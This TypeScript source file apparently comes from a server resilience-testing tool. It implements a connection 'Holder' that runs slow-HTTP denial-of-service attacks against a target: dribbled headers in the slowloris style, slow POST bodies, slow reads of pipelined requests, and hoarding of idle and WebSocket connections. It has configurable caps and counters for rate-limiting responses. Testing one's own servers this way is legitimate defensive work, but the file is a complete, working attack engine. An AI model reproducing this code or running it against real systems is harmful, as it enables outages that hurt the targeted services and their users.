import type { Socket } from 'node:net'
import { connectedEvent, connectTo } from '../wire/connect.ts'
import { Allowance } from './allowance.ts'
import type { Attack, Counters } from './plan.ts'
import { baseHeaders } from './requests.ts'

/** What a held connection sends at its start and then again and again. */
interface Script {
  opening(index: number): string
  dribble: string | undefined
  /** Seconds between two dribbles, where the attack's own pace would see too late that the server is gone. */
  everySeconds?: number
  /** Reads so much for each dribble and no more; undefined: reads all. */
  readBytes?: number
  /** A first answer with another status ends the connection's use (WebSocket not accepted). */
  wants?: RegExp
}

function scriptOf(attack: Attack): Script {
  const headers = baseHeaders(attack)
  const get = `GET ${attack.path} HTTP/1.1\r\n${headers}\r\n`
  switch (attack.scenario) {
    case 'slow-body':
      return {
        opening: () =>
          `POST ${attack.path} HTTP/1.1\r\n${headers}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 8192\r\n\r\na=`,
        dribble: 'b',
      }
    case 'slow-read':
      // Many requests on one connection: the answers fill the buffers between us, then the server has to wait. An empty line
      // (ignored before a request, RFC 9112 2.2) tells whether the other side is still there.
      return { opening: () => get.repeat(attack.pipelined), dribble: '\r\n', readBytes: 64, everySeconds: 2 }
    case 'hoarding':
      // One half never asks anything, the other half asks once and stays.
      return { opening: (index) => (index % 2 === 0 ? '' : get.replace(/^GET/, 'HEAD')), dribble: undefined }
    case 'websocket-hoarding':
      return {
        opening: () =>
          `GET ${attack.path} HTTP/1.1\r\n${headers}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: c2hvcHdhcmRlbi10ZXN0IQ==\r\n\r\n`,
        dribble: undefined,
        wants: /^HTTP\/1\.1 101 /,
      }
    default:
      return { opening: () => `GET ${attack.path} HTTP/1.1\r\n${headers}`, dribble: 'X-Slow: 1\r\n' }
  }
}

interface Held {
  socket: Socket
  connected: boolean
  index: number
  nextAt: number
}

/** Holds connections open the slow way. One timer for all of them, no timer and no listener more than needed for each. */
export class Holder {
  readonly #attack: Attack
  readonly #script: Script
  readonly #counters: Counters
  readonly #held = new Set<Held>()
  #level = 0
  #ceased = false
  #dropped = false
  #started = 0
  readonly #openings: Allowance

  constructor(attack: Attack, counters: Counters) {
    this.#attack = attack
    this.#script = scriptOf(attack)
    this.#counters = counters
    this.#openings = new Allowance(attack.caps.connectionsPerSecond, attack.caps.connectionsPerSecond)
  }

  setLevel(level: number): void {
    this.#level = Math.min(level, this.#attack.caps.connections)
  }

  cease(): void {
    this.#ceased = true
  }

  drop(): void {
    this.#ceased = this.#dropped = true
    for (const { socket } of this.#held) socket.destroy()
  }

  /** Called every few milliseconds: opens what is due, dribbles where it is time. */
  tick(now: number): void {
    const { caps, reopen } = this.#attack
    this.#openings.refill(now)
    const wanted = () => (reopen ? this.#held.size : this.#started) < this.#level && this.#held.size < caps.connections
    while (!this.#ceased && this.#openings.left >= 1 && wanted()) {
      this.#openings.spend(1)
      this.#open(now)
    }
    if (this.#script.dribble === undefined) return
    for (const held of this.#held) {
      if (!held.connected || held.nextAt > now) continue
      held.nextAt = now + (this.#script.everySeconds ?? this.#attack.dribbleSeconds) * 1000
      if (this.#script.readBytes !== undefined) held.socket.resume()
      held.socket.write(this.#script.dribble)
      this.#counters.bytesOut += this.#script.dribble.length
    }
  }

  #open(now: number): void {
    const counters = this.#counters
    const { readBytes, wants } = this.#script
    const index = this.#started++
    counters.tried++
    let first = true
    const socket: Socket = connectTo(this.#attack.target, {
      onread: {
        buffer: readBytes === undefined ? shared : Buffer.allocUnsafe(readBytes),
        callback: (length: number, buffer: Uint8Array) => {
          counters.bytesIn += length
          if (first) {
            first = false
            const head = Buffer.from(buffer.buffer, buffer.byteOffset, Math.min(length, 16)).toString('latin1')
            this.#count(head)
            if (wants !== undefined && !wants.test(head)) socket.destroy()
          }
          // False stops the reading until resume(): a slow reader.
          return readBytes === undefined
        },
      },
    })
    const held: Held = {
      socket,
      connected: false,
      index,
      nextAt: now + this.#attack.dribbleSeconds * 1000 * (0.5 + (index % 16) / 16),
    }
    this.#held.add(held)
    socket.once(connectedEvent(this.#attack.target), () => {
      held.connected = true
      counters.opened++
      counters.open++
      const opening = this.#script.opening(index)
      if (opening.length > 0) {
        socket.write(opening, 'latin1')
        counters.requests++
        counters.bytesOut += opening.length
      }
    })
    socket.on('error', () => undefined)
    socket.once('end', () => socket.destroy())
    socket.once('close', () => {
      this.#held.delete(held)
      if (held.connected) {
        counters.open--
        if (!this.#dropped) counters.shed++
      } else if (!this.#dropped) counters.refused++
    })
  }

  #count(head: string): void {
    const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0)
    if (status === 0) this.#counters.nonsense++
    else if (status === 429 || status === 503) this.#counters.limited++
    else if (status >= 500) this.#counters.serverErrors++
    else if (status >= 400) this.#counters.clientErrors++
    else this.#counters.ok++
  }
}

// What held connections read is counted, never kept: one buffer serves all of them.
const shared = Buffer.allocUnsafe(16_384)
